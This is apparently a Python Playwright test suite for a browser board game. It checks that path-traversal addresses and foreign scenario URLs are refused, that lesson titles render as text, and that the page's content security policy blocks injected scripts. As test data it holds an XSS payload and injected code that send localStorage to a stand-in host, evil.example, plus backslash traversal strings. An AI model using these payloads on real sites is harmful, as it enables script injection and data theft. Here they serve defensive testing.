"""Safe by construction (issue 25), in the browser: no file of the host becomes markup in a
preview, only files of the page's own site are opened by address, and the pages' content
security policy stops an injected handler and a connection to another site on its own.
docs/security.md explains each rule."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from .conftest import READY_MS, ROOT, close_clean, open_page

#: Files of the Python runtime: a refused address must not start it.
RUNTIME = ("/web/vendor/pyodide/", "/web/vendor/pyscript/", "/pyscript.json", "/web/main.py")
EVIL = "https://evil.example"
#: What a hostile lesson file on the same host would do, were its title read as markup.
STEAL = (
    '<img src=x onerror="window.__stolen=JSON.stringify(localStorage);'
    "fetch('https://evil.example/steal?'+encodeURIComponent(window.__stolen))\">"
)
REFUSED = "is not a file of this site"
ODD = "an address with a backslash"


def policy() -> str:
    """The pages' policy, as embed.html has it (tests/web/test_page_files.py: all the same)."""
    found = re.search(
        r'http-equiv="Content-Security-Policy" content="([^"]+)"', _read("embed.html")
    )
    assert found, "embed.html has no content security policy"
    return found.group(1)


def _read(name: str) -> str:
    return (ROOT / name).read_text("utf-8")


def hostile_lesson() -> str:
    scenario = json.loads(_read("scenarios/roads.json"))
    scenario["title"] = {"en": f"Roads {STEAL}"}
    return json.dumps(scenario)


class Asked:
    """Every request the page makes, to see that a refused address was never fetched."""

    def __init__(self, page: Page) -> None:
        self.urls: list[str] = []
        page.on("request", self.note)

    def note(self, request: Request) -> None:
        self.urls.append(request.url)

    def runtime(self) -> list[str]:
        return [u for u in self.urls if any(part in u for part in RUNTIME)]


@pytest.fixture
def page(browser: Browser, server: str) -> Iterator[Page]:
    page, guard = open_page(browser, server, viewport={"width": 800, "height": 600})
    page.add_init_script(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation',"
        " (e) => window.__violations.push(e.effectiveDirective));"
    )
    yield page
    close_clean(page, guard)


def serve(page: Page, url: str, body: str, content_type: str = "text/html") -> None:
    page.route(
        lambda u: u.startswith(url),
        lambda route: route.fulfill(status=200, content_type=content_type, body=body),
    )


def no_script_ran(page: Page) -> None:
    assert page.evaluate("window.__stolen") is None, "the hostile title ran as script"
    expect(page.locator("img[src='x']")).to_have_count(0)


# -- point 1: a file of the host put into the page as markup --------------------------------


def test_the_readme_trick_puts_no_file_of_the_host_into_an_embed(page: Page, server: str) -> None:
    asked = Asked(page)
    page.goto(f"{server}/embed.html?scenario=..%5C..%5CREADME.md%3F")
    page.wait_for_selector("body[data-previews]")
    note = page.locator(".attika-position .message.error")
    expect(note).to_contain_text(ODD)
    expect(page.locator("body")).not_to_contain_text("A digital edition of the board game")
    expect(page.locator("[data-try]")).to_have_count(0)
    assert not [u for u in asked.urls if "README" in urlsplit(u).path], asked.urls


def test_a_hostile_lesson_file_on_the_host_runs_no_script(page: Page, server: str) -> None:
    """A same-host file whose title holds an <img onerror>: neither the backslash trick nor an
    honest address makes its text markup; its title is shown as the text it is."""
    serve(page, f"{server}/lessons/hostile.json", hostile_lesson(), "application/json")
    asked = Asked(page)
    trick = quote("..\\..\\lessons\\hostile.json?", safe="")
    page.goto(f"{server}/embed.html?scenario={trick}")
    page.wait_for_selector("body[data-previews]")
    expect(page.locator(".attika-position .message.error")).to_contain_text(ODD)
    assert not [u for u in asked.urls if "hostile" in urlsplit(u).path], asked.urls
    no_script_ran(page)

    page.goto(f"{server}/embed.html?scenario=lessons/hostile.json")
    page.click("[data-try]")
    page.wait_for_selector("body[data-ready='1']", timeout=READY_MS)
    expect(page.locator(".pos-view .poshead h2")).to_contain_text("<img src=x onerror=")
    no_script_ran(page)


def test_the_backslash_trick_in_an_element_fetches_nothing(page: Page, server: str) -> None:
    body = (
        '<!doctype html><meta charset="utf-8"><title>A teacher\'s page</title>'
        '<script type="module" src="../web/attika-embed.js"></script>'
        '<attika-position id="trick" scenario="..\\..\\index.html?"></attika-position>'
        '<attika-position id="far" scenario="https://evil.example/lesson.json"></attika-position>'
        '<attika-position id="fine" scenario="roads"></attika-position>'
    )
    serve(page, f"{server}/e2e-pages/teacher.html", body)
    asked = Asked(page)
    page.goto(f"{server}/e2e-pages/teacher.html")
    expect(page.locator("#fine .pos.preview")).to_have_count(1)  # a shipped name still works
    expect(page.locator("#trick .message.error")).to_contain_text(ODD)
    expect(page.locator("#far .message.error")).to_contain_text(REFUSED)
    expect(page.locator("#trick [data-try], #far [data-try]")).to_have_count(0)
    assert not [u for u in asked.urls if urlsplit(u).path.endswith("/index.html")], asked.urls
    assert not [u for u in asked.urls if "lesson" in u], asked.urls
    expect(page.locator("#app, #loading")).to_have_count(0)  # nothing of the game page came in


# -- point 6: content from other sites ------------------------------------------------------

FOREIGN = [
    f"{EVIL}/lesson.json",
    "//evil.example/lesson.json",
    "data:application/json,{}",
    "blob:{server}/0b5e4c1a",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("address", FOREIGN)
def test_scenario_from_another_site_is_refused_before_any_fetch(
    page: Page, server: str, address: str
) -> None:
    address = address.replace("{server}", server)
    asked = Asked(page)
    page.goto(f"{server}/embed.html?scenario={quote(address, safe='')}")
    page.wait_for_selector("body[data-previews]")
    expect(page.locator(".attika-position .message.error")).to_contain_text(REFUSED)
    expect(page.locator("[data-try]")).to_have_count(0)
    page.wait_for_timeout(300)
    assert asked.runtime() == []
    elsewhere = [u for u in asked.urls if not u.startswith(server) or "lesson" in urlsplit(u).path]
    assert elsewhere == [], elsewhere


@pytest.mark.parametrize("address", FOREIGN)
def test_a_game_from_another_site_is_refused_and_not_kept(
    page: Page, server: str, address: str
) -> None:
    address = address.replace("{server}", server)
    page.goto(f"{server}/index.html?load={quote(address, safe='')}")
    page.wait_for_selector("body[data-ready='1']", timeout=READY_MS)
    said = page.locator("#overlay .message.error")
    expect(said).to_contain_text(REFUSED)
    expect(said).to_contain_text(address)
    kept = page.evaluate("Object.keys(localStorage).filter((k) => k.startsWith('attika.game.'))")
    assert kept == []


def test_python_refuses_a_foreign_scenario_by_itself(page: Page, server: str) -> None:
    """Python checks again: a holder already marked live with a foreign address (so the still
    previews' check never stands in the way) is refused by web/core/addresses.py."""
    body = (
        '<!doctype html><html lang="en"><meta charset="utf-8"><title>Positions</title>'
        '<link rel="stylesheet" href="web/app.css">'
        '<script type="module" src="web/preview.js"></script>'
        '<div class="attika-position" id="fine" data-scenario="roads"></div>'
        f'<div class="attika-position" id="far" data-scenario="{EVIL}/x.json" data-live="1"></div>'
        '<div class="attika-position" id="data" data-scenario="data:,{}" data-live="1"></div>'
    )
    serve(page, f"{server}/security-check.html", body)
    page.goto(f"{server}/security-check.html")
    page.click("#fine [data-try]")
    page.wait_for_selector("body[data-ready='1']", timeout=READY_MS)
    expect(page.locator("#fine .pos-view .pos")).to_have_count(1)
    for key in ("far", "data"):
        said = page.locator(f"#{key} .pos-view .message.error")
        expect(said).to_contain_text("could not be loaded")
        expect(said).to_contain_text(REFUSED)


def test_the_rule_before_python_is_the_rule_in_python(page: Page, server: str) -> None:
    """web/addresses.js, in the browser's own URL parser, decides every address of the shared
    table (tests/data/addresses.json) as the table says, and so as web/core/addresses.py does
    (tests/web/test_twins.py); the server's own address is opened, a foreign one refused."""
    table = json.loads((ROOT / "tests" / "data" / "addresses.json").read_text("utf-8"))
    here = f"{server}/lessons/embed.html?scenario=x"
    cases = [(c["address"], c.get("page", table["page"])) for c in table["same_site"]]
    cases += [(f"{server}/scenarios/roads.json", here), (f"{EVIL}/lesson.json", here)]
    expected = [
        {"refused": c["refused"]} if "refused" in c else {"url": c["url"]}
        for c in table["same_site"]
    ]
    expected += [{"url": f"{server}/scenarios/roads.json"}, {"refused": "other-site"}]
    page.goto(f"{server}/embed.html?scenario=roads")
    page.wait_for_selector("body[data-previews]")
    in_js = page.evaluate(
        """async (cases) => {
            const { sameSite } = await import("./web/addresses.js");
            return cases.map(([address, at]) => sameSite(address, at));
        }""",
        cases,
    )
    for (address, _), js, answer in zip(cases, in_js, expected, strict=True):
        assert js == answer, address


# -- the content security policy ------------------------------------------------------------

INJECT = """async () => {
    const box = document.querySelector(".attika-position") || document.body;
    const hostile = document.createElement("div");
    hostile.innerHTML = '<img src="web/no-such-picture.png" onerror="window.__ran = 1">';
    box.append(hostile);
    const script = document.createElement("script");
    script.textContent = "window.__inline = 1";
    document.body.append(script);
    let fetched;
    try {
        await fetch("https://evil.example/?" + encodeURIComponent(JSON.stringify(localStorage)));
        fetched = "fetched";
    } catch (_) {
        fetched = "refused";
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: window.__ran, inline: window.__inline, fetched, seen: window.__violations };
}"""


@pytest.mark.parametrize(
    "address", ["index.html", "embed.html?scenario=roads", "rules.html", "editor.html"]
)
def test_the_policy_stops_an_injected_handler_and_a_foreign_fetch(
    page: Page, server: str, address: str
) -> None:
    page.goto(f"{server}/{address}")
    page.wait_for_load_state("domcontentloaded")
    found = page.evaluate(INJECT)
    assert found["ran"] is None, "an event-handler attribute ran"
    assert found["inline"] is None, "an inline script ran"
    assert found["fetched"] == "refused"
    assert {"script-src-attr", "script-src-elem", "connect-src"} <= set(found["seen"]), found


def test_a_teachers_page_with_the_documented_policy_plays_and_is_protected(
    page: Page, server: str
) -> None:
    """The policy docs/security.md gives pages using <attika-position>: Python starts and plays
    under it, with no violation, and it stops what it should there too."""
    body = (
        '<!doctype html><meta charset="utf-8">'
        f'<meta http-equiv="Content-Security-Policy" content="{policy()}">'
        "<title>A teacher's page</title>"
        '<script type="module" src="../web/attika-embed.js"></script>'
        '<h1>Roads</h1><attika-position id="a" scenario="roads"></attika-position>'
    )
    serve(page, f"{server}/e2e-pages/protected.html", body)
    said: list[str] = []
    page.on("console", lambda m: said.append(m.text) if "Security Policy" in m.text else None)
    page.goto(f"{server}/e2e-pages/protected.html")
    page.click("#a [data-try]")
    page.wait_for_selector("body[data-ready='1']", timeout=READY_MS)
    page.click('#a [data-cmd=select][data-arg="road"]')
    page.click('#a [data-hex="0,0"]')
    expect(page.locator("#a .payment")).to_have_count(1)
    assert said == [] and page.evaluate("window.__violations") == [], said
    found = page.evaluate(INJECT)
    assert found["ran"] is None and found["inline"] is None and found["fetched"] == "refused"


def test_the_game_page_plays_under_its_policy_with_no_violation(page: Page, server: str) -> None:
    """Python starts and a game is set up and begun under the policy. Enter in the new-game
    form (which has no onsubmit any more) starts the game, as the page means it to, and does
    not send the form: the address is the game's, with no field of the form in it."""
    said: list[str] = []
    page.on("console", lambda m: said.append(m.text) if "Security Policy" in m.text else None)
    page.goto(f"{server}/index.html")
    page.wait_for_selector("body[data-ready='1']", timeout=READY_MS)
    page.fill('[name="name-0"]', "Ann")
    page.press('[name="name-0"]', "Enter")
    expect(page.locator(".turnhead .who")).to_be_visible()
    assert "?game=" in page.url and "name-0" not in page.url, page.url
    assert said == [] and page.evaluate("window.__violations") == [], said
